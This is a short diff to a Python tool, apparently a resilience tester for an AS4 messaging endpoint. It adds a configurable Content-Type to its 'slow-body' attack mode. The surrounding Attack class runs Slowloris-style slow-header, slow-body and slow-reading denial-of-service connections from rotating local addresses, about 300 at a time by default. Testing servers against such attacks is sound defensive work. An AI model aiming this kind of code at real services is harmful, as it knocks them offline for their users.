@@ -110,8 +110,8 @@ class Attack:
             return
         path = self.options.path.encode()
         begin = {"slow-header": b"POST " + path + b" HTTP/1.1\r\nX: ",
-                 "slow-body": b"POST " + path + b" HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/xml\r\n"
-                              b"Content-Length: 1000000\r\n\r\n",
+                 "slow-body": b"POST " + path + b" HTTP/1.1\r\nHost: localhost\r\nContent-Type: " +
+                 self.options.content_type.encode() + b"\r\nContent-Length: 1000000\r\n\r\n",
                  "slow-reading": MANY}[kind]
         writer.write(begin)
         while True:
@@ -152,6 +152,7 @@ def main():
     parser.add_argument("--keys", type=pathlib.Path, action="append", help="folder of a client certificate; in turns")
     parser.add_argument("--sources", type=local, nargs="+", default=["127.0.0.2"], help="addresses to come from, in turns")
     parser.add_argument("--path", default="/as4")
+    parser.add_argument("--content-type", default='multipart/related; type="application/soap+xml"; boundary=b')
     parser.add_argument("--connections", type=int, default=300)
     parser.add_argument("--seconds", type=float, default=20)
     options = parser.parse_args()
